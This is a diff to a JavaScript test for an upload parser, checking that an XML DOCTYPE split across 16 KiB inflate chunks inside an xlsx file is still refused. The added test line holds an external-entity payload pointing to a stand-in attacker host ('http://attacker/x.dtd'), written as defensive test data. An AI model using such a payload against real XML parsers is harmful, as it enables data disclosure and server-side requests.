@@ -101,8 +101,10 @@ describe('UP-04/05 XML entities', () => {
   });
 
   it('UP-04 DOCTYPE split across inflate chunks is still seen', async () => {
-    for (const pad of [16_383, 16_384, 65_535, 65_536, 65_537]) {
-      const part = `<?xml version="1.0"?>${' '.repeat(pad)}<!DOCTYPE x [<!ENTITY a "b">]><sst/>`;
+    // Inflate output arrives in 16 KiB chunks: these pads put `<`, `!` and `D` on each side of the first boundaries.
+    const pads = [16_384, 32_768, 65_536].flatMap((boundary) => Array.from({ length: 12 }, (_v, i) => boundary - 28 + i));
+    for (const pad of pads) {
+      const part = `<?xml version="1.0"?>${' '.repeat(pad)}<!DOCTYPE sst SYSTEM "http://attacker/x.dtd"><sst/>`;
       await refused(xlsx({ 'xl/sharedStrings.xml': part }), 'split.xlsx', 'doctype_refused');
     }
   });
